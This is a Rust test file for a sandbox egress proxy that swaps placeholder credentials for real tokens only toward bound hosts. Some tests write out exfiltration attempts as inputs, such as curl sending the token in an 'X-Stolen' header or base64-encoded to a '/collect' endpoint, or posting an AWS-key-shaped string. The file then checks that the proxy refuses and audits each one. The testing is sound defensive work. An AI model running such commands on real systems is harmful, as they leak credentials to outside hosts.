//! Credentials injected by the proxy (`egress.inject`, docs/network.md):
//! the jail holds a placeholder; real clients in the jail talk to real
//! servers on the host's loopback, and what the servers received, what the
//! jail printed and the audit log are checked from outside.

use super::common::*;

/// The credential's real value: only the supervisor and the bound host
/// may ever see it.
const REAL: &str = "ghp_Re4lVa1ueNeverSeenInsideTheJ4ilX0123";

/// A server that answers with the request it got (httpbin's `/anything`),
/// so whatever it saw of the credential comes back.
fn echo(request: &testkit::http::Request) -> Vec<u8> {
    testkit::http::reply(
        200,
        &[("Content-Type", "text/plain")],
        request.text().as_bytes(),
    )
}

/// A setup whose `GH` credential (read from a file outside the jail's
/// view) is injected as `GH_TOKEN` for `localhost` on `port`; `trust`: a
/// CA the supervisor trusts (`egress.ca_file`), `extra`: more of the
/// egress table.
fn setup_with(port: u16, trust: Option<&str>, entry_extra: &str, extra: &str) -> Setup {
    let setup = Setup::new("");
    let secret = setup.dir.path().join("gh-token");
    std::fs::write(&secret, format!("{REAL}\n")).expect("secret");
    let ca_file = match trust {
        Some(pem) => {
            let path = setup.dir.path().join("upstream-ca.pem");
            std::fs::write(&path, pem).expect("ca");
            format!("ca_file = {:?}\n", path.display().to_string())
        }
        None => String::new(),
    };
    let policy = format!(
        "[profile.default.credentials]\n\
         GH = {{ file = {secret:?} }}\n\
         [profile.default.egress]\n\
         allow = [\"localhost\"]\n\
         allow_addresses = [\"127.0.0.1\"]\n\
         connect_ports = [{port}]\n\
         {ca_file}{extra}\
         [[profile.default.egress.inject]]\n\
         credential = \"GH\"\n\
         hosts = [\"localhost\"]\n\
         env = [\"GH_TOKEN\"]\n\
         port = {port}\n\
         {entry_extra}",
    );
    std::fs::write(setup.dir.path().join("policy.toml"), policy).expect("policy");
    setup
}

/// The `proxy` lines of the audit log, as text.
fn proxy_lines(setup: &Setup) -> Vec<String> {
    setup
        .audit()
        .lines()
        .filter(|l| l.contains("\"proxy\""))
        .map(str::to_string)
        .collect()
}

#[test]
fn the_jail_holds_a_placeholder_of_the_values_shape_and_never_the_value() {
    let setup = setup_with(443, None, "", "");
    let out = setup.sh(
        "echo \"$GH_TOKEN\"; echo \"$SSL_CERT_FILE\"; env; cat /proc/self/environ; \
         cat /run/jail/ca.pem",
    );
    assert_ok(&out);
    let text = stdout(&out);
    let placeholder = text.lines().next().expect("a line");
    assert_eq!(placeholder.len(), REAL.len(), "{placeholder}");
    assert!(placeholder.starts_with("ghp_"), "{placeholder}");
    assert_ne!(placeholder, REAL);
    let class = |c: char| {
        (
            c.is_ascii_lowercase(),
            c.is_ascii_uppercase(),
            c.is_ascii_digit(),
        )
    };
    assert!(
        placeholder
            .chars()
            .zip(REAL.chars())
            .all(|(a, b)| class(a) == class(b)),
        "{placeholder} has other character classes than the value"
    );
    assert_eq!(text.lines().nth(1), Some("/run/jail/ca.pem"));
    // Nothing the jail can read holds the value, nor any part of it past
    // the prefix; the bundle holds certificates, never a key.
    assert!(!text.contains(&REAL[4..14]), "{text}");
    assert!(text.contains("BEGIN CERTIFICATE"), "{text}");
    assert!(!text.contains("PRIVATE KEY"), "{text}");
    // Another run gets another placeholder: it is worthless after this one.
    let again = setup.sh("echo \"$GH_TOKEN\"");
    assert_ok(&again);
    assert_ne!(stdout(&again).trim(), placeholder);
}

#[test]
fn https_to_the_bound_host_carries_the_real_value_and_the_answer_shows_the_placeholder() {
    if !need(&["curl"]) {
        return;
    }
    let (server, ca_pem) = testkit::http::Server::start_tls(echo);
    let setup = setup_with(server.port, Some(&ca_pem), "", "");
    // curl finds the run's CA through CURL_CA_BUNDLE: no --cacert.
    let out = setup.sh(&format!(
        "echo \"$GH_TOKEN\"; curl -sS --fail -H \"Authorization: Bearer $GH_TOKEN\" \
         https://localhost:{}/user",
        server.port
    ));
    assert_ok(&out);
    let text = stdout(&out);
    let placeholder = text.lines().next().expect("placeholder").to_string();
    let seen = server.stop().1;
    assert_eq!(seen.len(), 1, "{text}");
    assert_eq!(
        seen[0].headers.get("authorization").map(String::as_str),
        Some(format!("Bearer {REAL}").as_str()),
        "the host did not get the real value"
    );
    // The bound host asked for an answer it can be read in.
    assert_eq!(
        seen[0].headers.get("accept-encoding").map(String::as_str),
        Some("identity")
    );
    // The echo came back with the placeholder where the value was.
    assert!(
        text.contains(&format!("authorization: Bearer {placeholder}"))
            || text.contains(&format!("Authorization: Bearer {placeholder}")),
        "{text}"
    );
    assert!(!text.contains(REAL), "{text}");
    let lines = proxy_lines(&setup);
    assert!(
        lines.iter().any(|l| l.contains("credential GH injected")),
        "{lines:?}"
    );
    assert!(!setup.audit().contains(REAL));
}

#[test]
fn python_over_https_with_basic_auth_gets_the_value_put_inside_the_encoding() {
    if !need(&["python3"]) {
        return;
    }
    let (server, ca_pem) = testkit::http::Server::start_tls(echo);
    let setup = setup_with(server.port, Some(&ca_pem), "", "");
    // As git does with a token: `x-access-token:TOKEN` in Basic auth.
    // Python's ssl reads SSL_CERT_FILE; urllib reads https_proxy.
    let script = format!(
        "import base64, os, urllib.request\n\
         pair = ('x-access-token:' + os.environ['GH_TOKEN']).encode()\n\
         request = urllib.request.Request('https://localhost:{}/repo.git/info/refs')\n\
         request.add_header('Authorization', 'Basic ' + base64.b64encode(pair).decode())\n\
         print(urllib.request.urlopen(request).read().decode())\n",
        server.port
    );
    setup.file("basic.py", &script);
    let out = setup.sh("python3 basic.py");
    assert_ok(&out);
    let seen = server.stop().1;
    assert_eq!(seen.len(), 1);
    let expected = format!("x-access-token:{REAL}");
    let header = seen[0].headers.get("authorization").expect("authorization");
    let decoded = policy::decode::base64_decode(header.strip_prefix("Basic ").expect("basic"))
        .expect("base64");
    assert_eq!(String::from_utf8_lossy(&decoded), expected);
    assert!(!stdout(&out).contains(REAL));
}

#[test]
fn a_placeholder_sent_to_another_host_is_refused_and_audited() {
    if !need(&["curl"]) {
        return;
    }
    // Bound to localhost over https; the attacker's host is 127.0.0.1.
    let other = testkit::http::Server::start(echo);
    let setup = setup_with(443, None, "", "");
    // (127.0.0.1 is in egress.allow_addresses: the proxy lets it be asked.)
    let url = format!("http://127.0.0.1:{}/collect", other.port);
    let out = setup.sh(&format!(
        "curl -sS -o /dev/null -w '%{{http_code}}\\n' -H \"X-Stolen: $GH_TOKEN\" {url}; \
         printf 'data=%s' \"$(printf %s \"$GH_TOKEN\" | base64)\" > /tmp/body; \
         curl -sS -o /dev/null -w '%{{http_code}}\\n' --data-binary @/tmp/body {url}; \
         curl -sS -o /dev/null -w '%{{http_code}}\\n' {url}"
    ));
    assert_ok(&out);
    // The header and the base64 in a body are refused; a clean request goes.
    assert_eq!(stdout(&out), "403\n403\n200\n", "{}", stderr(&out));
    let seen = other.stop().1;
    assert_eq!(seen.len(), 1, "only the clean request reached the host");
    let lines = proxy_lines(&setup);
    let refused: Vec<&String> = lines
        .iter()
        .filter(|l| l.contains("placeholder of credential `GH`") && l.contains("exfiltration"))
        .collect();
    assert_eq!(refused.len(), 2, "{lines:?}");
    assert!(
        stderr(&out).contains("a credential's placeholder to another host"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn plain_http_to_the_bound_host_needs_send_over_plain_http() {
    if !need(&["curl"]) {
        return;
    }
    let server = testkit::http::Server::start(echo);
    let setup = setup_with(server.port, None, "", "");
    let script = format!(
        "curl -sS -H \"Authorization: token $GH_TOKEN\" -D - http://localhost:{}/x",
        server.port
    );
    let out = setup.sh(&script);
    assert!(stdout(&out).contains("403"), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("send_over_plain_http"),
        "{}",
        stdout(&out)
    );
    assert_eq!(server.seen().len(), 0);

    let allowed = setup_with(server.port, None, "send_over_plain_http = true\n", "");
    let out = allowed.sh(&script);
    assert_ok(&out);
    let seen = server.stop().1;
    assert_eq!(seen.len(), 1);
    assert_eq!(
        seen[0].headers.get("authorization").map(String::as_str),
        Some(format!("token {REAL}").as_str())
    );
    assert!(!stdout(&out).contains(REAL), "{}", stdout(&out));
}

#[test]
fn the_proxy_checks_the_bound_hosts_certificate_itself() {
    if !need(&["curl"]) {
        return;
    }
    // The host's CA is not one the supervisor trusts (no egress.ca_file):
    // the jail's TLS ends at the proxy, whose own connection must refuse.
    let (server, _ca_pem) = testkit::http::Server::start_tls(echo);
    let setup = setup_with(server.port, None, "", "");
    let out = setup.sh(&format!(
        "curl -sS -w '%{{http_code}}\\n' -o /dev/null -H \"Authorization: Bearer $GH_TOKEN\" \
         https://localhost:{}/x",
        server.port
    ));
    assert_eq!(
        stdout(&out).trim(),
        "502",
        "{}\n{}",
        stderr(&out),
        setup.audit()
    );
    let seen = server.stop().1;
    assert!(seen.is_empty(), "the real value went to an unchecked host");
    let lines = proxy_lines(&setup);
    assert!(lines.iter().any(|l| l.contains("then failed")), "{lines:?}");
}

#[test]
fn a_host_without_a_bound_credential_stays_a_plain_tunnel() {
    if !need(&["curl"]) {
        return;
    }
    // Bound to port 443; the TLS server is elsewhere, so unbound. The
    // jail's curl checks the host's own certificate through the tunnel,
    // under the bundle (which holds the CAs the supervisor trusts).
    let (server, ca_pem) = testkit::http::Server::start_tls(echo);
    let setup = setup_with(443, Some(&ca_pem), "", "");
    let policy_path = setup.dir.path().join("policy.toml");
    let policy = std::fs::read_to_string(&policy_path).expect("policy");
    std::fs::write(
        &policy_path,
        policy.replacen(
            "connect_ports = [443]",
            &format!("connect_ports = [443, {}]", server.port),
            1,
        ),
    )
    .expect("policy");
    let out = setup.sh(&format!(
        "curl -sS --fail -H 'X-Test: 1' https://localhost:{}/plain",
        server.port
    ));
    assert_ok(&out);
    let seen = server.stop().1;
    assert_eq!(seen.len(), 1);
    // Untouched: curl's own encoding request, not the proxy's.
    assert_ne!(
        seen[0].headers.get("accept-encoding").map(String::as_str),
        Some("identity")
    );
    let lines = proxy_lines(&setup);
    assert!(
        lines
            .iter()
            .any(|l| l.contains("CONNECT") && !l.contains("injected")),
        "{lines:?}"
    );
}

#[test]
fn with_inspect_tls_all_a_placeholder_over_https_to_another_host_is_refused() {
    if !need(&["curl"]) {
        return;
    }
    // Bound to port 443; the TLS server is elsewhere, so unbound, but
    // every tunnel is inspected.
    let (server, ca_pem) = testkit::http::Server::start_tls(echo);
    let setup = setup_with(443, Some(&ca_pem), "", "inspect_tls = \"all\"\n");
    let policy_path = setup.dir.path().join("policy.toml");
    let policy = std::fs::read_to_string(&policy_path).expect("policy");
    std::fs::write(
        &policy_path,
        policy.replacen(
            "connect_ports = [443]",
            &format!("connect_ports = [443, {}]", server.port),
            1,
        ),
    )
    .expect("policy");
    let url = format!("https://localhost:{}/collect", server.port);
    let out = setup.sh(&format!(
        "curl -sS -o /dev/null -w '%{{http_code}}\\n' -H \"X-Stolen: $GH_TOKEN\" {url}; \
         curl -sS -o /dev/null -w '%{{http_code}}\\n' {url}"
    ));
    assert_ok(&out);
    assert_eq!(stdout(&out), "403\n200\n", "{}", stderr(&out));
    let seen = server.stop().1;
    assert_eq!(seen.len(), 1, "only the clean request reached the host");
    assert!(!seen[0].head.contains("X-Stolen"));
    let lines = proxy_lines(&setup);
    assert!(
        lines.iter().any(|l| l.contains("exfiltration")),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|l| l.contains("TLS inspected")),
        "{lines:?}"
    );
}

#[test]
fn what_goes_inside_an_inspected_tunnel_is_gated_as_a_plain_request_is() {
    if !need(&["curl"]) {
        return;
    }
    // The bound host is a public sink (no egress.hosts entry): an agent
    // steered into posting a secret there (a gist, an issue) is stopped,
    // although the CONNECT itself showed nothing.
    let (server, ca_pem) = testkit::http::Server::start_tls(echo);
    let setup = setup_with(server.port, Some(&ca_pem), "", "");
    let url = format!("https://localhost:{}/gists", server.port);
    let out = setup.sh(&format!(
        "curl -sS -o /dev/null -w '%{{http_code}}\\n' -H \"Authorization: Bearer $GH_TOKEN\" \
         --data 'aws=AKIAZ4RTU7WXQ2LMV3JD' {url}; \
         curl -sS -o /dev/null -w '%{{http_code}}\\n' -H \"Authorization: Bearer $GH_TOKEN\" \
         --data 'note=hello' {url}"
    ));
    assert_ok(&out);
    assert_eq!(stdout(&out), "403\n200\n", "{}", stderr(&out));
    let seen = server.stop().1;
    assert_eq!(seen.len(), 1, "the secret reached the host");
    assert!(seen[0].text().contains("note=hello"));
    let lines = proxy_lines(&setup);
    assert!(
        lines
            .iter()
            .any(|l| l.contains("credential-shaped data in an outbound payload")),
        "{lines:?}"
    );
}

#[test]
fn a_credential_too_short_to_stand_in_for_is_refused_naming_the_key() {
    let setup = setup_with(443, None, "", "");
    std::fs::write(setup.dir.path().join("gh-token"), "ghp_short\n").expect("secret");
    let out = setup.sh("echo ran");
    assert!(!out.status.success());
    assert!(!stdout(&out).contains("ran"));
    let err = stderr(&out);
    assert!(
        err.contains("too short") && err.contains("egress.inject"),
        "{err}"
    );
}
